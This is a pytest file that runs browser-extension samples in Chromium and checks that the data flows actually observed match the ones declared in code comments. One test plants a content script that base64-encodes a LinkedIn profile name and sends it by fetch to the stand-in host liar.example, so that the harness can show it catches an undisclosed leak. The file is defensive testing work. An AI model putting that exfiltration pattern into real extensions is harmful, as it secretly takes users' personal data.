"""Every sample that a browser can run, run by Chromium: what its comments say arrives there, and nothing else does."""

import json
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from msgspec.structs import replace
from samples.catalog import Run, Sample, Step, Typing, load

from tests.samples.browser.judge import Observation, extra, missing, silent
from tests.samples.browser.observe import Observations, manifest_of
from tests.samples.expectations import flows_of

HERE = Path(__file__)
RUNNABLE = [sample for sample in load() if sample.expected.run is not None]

pytestmark = pytest.mark.browser


def named(sample: Sample) -> str:
    return sample.name


@pytest.fixture(scope="module")
def observations(request: pytest.FixtureRequest) -> Iterator[Observations]:
    """All samples that this run of the tests asks for; they are started together."""
    calls = [getattr(item, "callspec", None) for item in request.session.items if item.path == HERE]
    with Observations(call.params["sample"] for call in calls if call) as running:
        yield running


@pytest.mark.parametrize("sample", RUNNABLE, ids=named)
def test_the_browser_shows_what_the_expectations_say(sample: Sample, observations: Observations) -> None:
    observed, run, flows = observations.of(sample), sample.expected.run, flows_of(sample)
    assert run is not None
    lines = missing(flows, observed, run) + extra(flows, observed, run)
    if sample.expected.sign == "honest":
        lines += silent(sample.expected.endpoints, observed)  # it did run, and what it may say was heard
    if run.page and not observed.done:
        lines.append(f"Silent:  the page {run.page} has not reported")
    if manifest_of(sample).get("content_scripts") and not observed.worlds:
        lines.append("Silent:  no content script has run")
    lines += [f"Error:   {problem}" for problem in observed.problems if problem.startswith("error")]
    assert not lines, "\n".join(["", *lines, "", "requests:", *map(str, observed.requests), "", *observed.problems])


def made(folder: Path, run: Run, manifest: Mapping[str, object], **files: str) -> Sample:
    """A sample that is made for a test; a file's name has "_" for its dot."""
    honest = next(sample for sample in RUNNABLE if sample.name == "night-shade").expected
    named = {"manifest_version": 3, "name": "Made", "version": "1", **manifest}
    for name, content in {"manifest_json": json.dumps(named), **files}.items():
        (folder / name.replace("_", ".")).write_text(content, encoding="utf-8")
    return Sample("made", folder, replace(honest, run=run))


def observed_of(sample: Sample) -> Observation:
    with Observations([sample]) as running:
        return running.of(sample)


def test_an_honest_sample_that_lies_is_caught(tmp_path: Path) -> None:
    run = Run(page="https://www.linkedin.com/in/ada-example/")
    manifest = {"content_scripts": [{"matches": ["https://www.linkedin.com/*"], "js": ["liar.js"]}]}
    code = """fetch("https://liar.example/" + btoa(document.querySelector("h1").innerText), {mode: "no-cors"});"""
    observed = observed_of(made(tmp_path, run, manifest, liar_js=code))
    assert observed.worlds
    assert [line.partition(" in ")[0] for line in extra([], observed, run)] == ["Extra:   person.name"]


POPUP = """\
document.querySelector("button").addEventListener("click", async () => {
  const [tab] = await chrome.tabs.query({ active: true, currentWindow: true });
  const [{ result }] = await chrome.scripting.executeScript({
    target: { tabId: tab.id },
    func: () => document.querySelector("h1").innerText, // $ source=a types=person.name
  });
  const tag = document.querySelector("input").value; // $ source=a types=user.input
  const body = result + tag;
  await fetch("https://popup.example/a", { method: "POST", body }); // $ sink=a channel=body host=popup.example
});
"""


def test_a_popup_is_used_over_the_page_it_was_opened_for(tmp_path: Path) -> None:
    steps = (
        Step(toolbar="click"),
        Step(type=Typing(into="input", text="canaryinput")),
        Step(click="button"),
    )
    run = Run(page="https://www.linkedin.com/in/ada-example/", steps=steps)
    manifest = {
        "permissions": ["activeTab", "scripting"],  # the tab is opened to it by the click alone
        "host_permissions": ["https://popup.example/*"],
        "action": {"default_popup": "popup.html"},
    }
    page = '<!DOCTYPE html><input><button>Go</button><script src="popup.js"></script>'
    sample = made(tmp_path, run, manifest, popup_html=page, popup_js=POPUP)
    observed = observed_of(sample)
    assert missing(flows_of(sample), observed, run) == [], observed.problems
    assert extra(flows_of(sample), observed, run) == []
